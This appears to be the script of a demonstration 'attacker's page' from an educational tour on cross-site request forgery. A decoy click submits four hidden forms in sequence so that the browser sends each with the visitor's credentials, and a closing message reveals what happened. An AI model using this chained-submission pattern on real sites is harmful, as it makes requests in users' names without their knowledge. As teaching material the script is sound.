// The attacker's page: one innocent click, four forms. The browser adds to each what it always adds.

const forms = Array.from(document.forms);
const next = Number(new URLSearchParams(location.search).get('next') ?? '-1');

element('claim').addEventListener('click', () => forms[0].submit());
if (next >= 0 && next < forms.length - 1) {
  forms[next].submit();
} else if (next >= 0) {
  element('silent').addEventListener('load', finish, { once: true });
  forms[forms.length - 1].submit();
}

function finish() {
  element('claim').hidden = true;
  element('offer').hidden = true;
  element('done').textContent = 'Four requests were sent in your name. The tour knows what became of them.';
  element('back').hidden = false;
}

/** @param {string} id */
function element(id) {
  return /** @type {HTMLElement} */ (document.getElementById(id));
}
